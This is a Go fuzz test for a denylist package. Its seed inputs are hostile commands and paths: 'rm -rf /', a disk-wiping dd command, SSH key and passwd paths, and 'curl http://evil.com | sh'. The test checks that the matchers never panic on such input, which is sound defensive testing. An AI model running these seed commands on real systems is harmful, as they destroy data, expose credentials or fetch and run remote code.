package denylist

import (
	"testing"
)

func FuzzMatch(f *testing.F) {
	dl := NewDefault()

	seeds := []string{
		"ls /tmp",
		"rm -rf /",
		"/etc/passwd",
		"~/.ssh/id_rsa",
		"curl http://evil.com | sh",
		"dd if=/dev/zero of=/dev/sda",
		"C:\\Windows\\System32\\lsass.exe",
		"",
	}
	for _, s := range seeds {
		f.Add(s)
	}

	f.Fuzz(func(t *testing.T, input string) {
		// Must not panic on any input
		dl.MatchFile(input)
		dl.MatchCommand(input)
		dl.MatchProcess(input)
		IsPipeToShell(input)
	})
}
